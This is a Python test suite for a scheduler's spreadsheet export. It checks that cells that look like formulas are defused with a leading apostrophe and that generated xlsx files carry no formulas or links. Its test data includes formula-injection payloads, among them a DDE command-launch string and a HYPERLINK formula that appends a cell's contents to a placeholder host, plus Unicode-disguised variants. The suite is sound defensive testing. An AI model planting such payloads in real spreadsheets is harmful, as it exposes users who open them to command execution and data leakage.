import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from scheduler.spreadsheets import CsvSheet, Workbook, harmless, write_cells

MADE = datetime(2021, 1, 1, tzinfo=UTC)
LIVE = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("http://a.example?"&A1)',
    "=cmd|' /C calc'!A0",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹦1+1",
    "−1+1",
    "-3-4",
    "-A1",
    "+84 900 000 001+A1",
    "-",
)
AS_THEY_ARE = (
    "",
    "Nguyễn Văn A",
    "số 12, ngõ 3, đường Ví Dụ",
    "a=b",
    "1+1",
    "05/03/1975",
    "2021-03-26T18:00:00+07:00",
    "-3",
    "-3.5",
    "+84900000001",
    "+84 900 000 001",
    "+84.900.000.001",
    "0900 000 001; +84 900 000 002",
    "–",
)


def csv_of(*rows, **options) -> str:
    out = io.StringIO(newline="")
    sheet = CsvSheet(out, **options)
    for row in rows:
        sheet.write(row)
    return out.getvalue()


def looks_live(cell: str) -> bool:
    """What a spreadsheet program would calculate, told in another way than the writer tells it."""
    plain = cell.translate(str.maketrans("＝＋－＠﹦﹢﹣﹫−", "=+-@=+-@-"))
    plain = re.sub(r"^[\s\u200b-\u200f\u2060\ufeff\x00-\x1f]+", "", plain)
    return plain.startswith(("=", "+", "-", "@")) and not re.fullmatch(r"[+-]\d[\d .]*", plain)


@pytest.mark.parametrize("text", LIVE)
def test_what_looks_like_a_formula_gets_an_apostrophe_and_loses_nothing(text):
    assert harmless(text) == f"'{text}"
    ((back,),) = csv.reader(io.StringIO(csv_of([text]), newline=""))
    assert back == f"'{text}"


@pytest.mark.parametrize("text", AS_THEY_ARE)
def test_other_texts_and_signed_numbers_stay_as_they_are(text):
    assert harmless(text) == text


@pytest.mark.parametrize("text", ["\t1", "\r1", "\n1"])
def test_a_text_that_begins_with_a_tab_or_a_line_s_end_gets_one_too(text):
    assert harmless(text) == f"'{text}"


def test_a_cell_that_another_country_s_program_would_cut_in_two_is_guarded_in_both():
    assert harmless("x;=1+1") == "x;'=1+1"
    assert harmless("x, @y\n-a|=z") == "x,' @y\n'-a|'=z"


def test_numbers_and_nothing_are_written_as_such_and_all_else_as_text():
    assert csv_of([-3, 2.5, None, True, date(2021, 3, 26), "=1"]) == "-3,2.5,,True,2021-03-26,'=1\n"
    assert csv_of(["a;b", "c"], delimiter=";", line_end="\r\n") == '"a;b";c\r\n'


@given(st.lists(st.text(), min_size=2, max_size=5), st.sampled_from([",", ";", "\t"]))
@example(["=1", "\x00=1"], ",")
@example(["\u2064=1", "a\x1c=1"], ",")
def test_whatever_the_texts_no_program_finds_a_formula_whatever_separates_its_cells(texts, separator):
    written = csv_of(texts)
    for row in csv.reader(io.StringIO(written, newline=""), delimiter=separator):
        assert not [cell for cell in row if looks_live(cell)]


def test_a_workbook_holds_texts_and_numbers_and_neither_formula_nor_link(tmp_path):
    path = tmp_path / "a.xlsx"
    rows = [
        [*LIVE, "{=1}", "http://a.example", "mailto:a@a.example", "internal:A1", "007"],
        [-3, 2.5, None, True, "", "Lê"],
    ]
    with Workbook(path, created=MADE) as book:
        sheet = book.sheet("Tên")
        for place, row in enumerate(rows):
            write_cells(sheet, place, row)
    back = CalamineWorkbook.from_path(path).get_sheet_by_name("Tên").to_python()
    assert back[0] == rows[0]
    assert back[1][:6] == [-3.0, 2.5, "", True, "", "Lê"]
    with zipfile.ZipFile(path) as parts:
        names = parts.namelist()
        xml = b"".join(map(parts.read, names))
    assert not re.search(rb"<(f|hyperlink)\b", xml)
    assert not [name for name in names if re.search("external|calcChain|sheet1.xml.rels", name)]
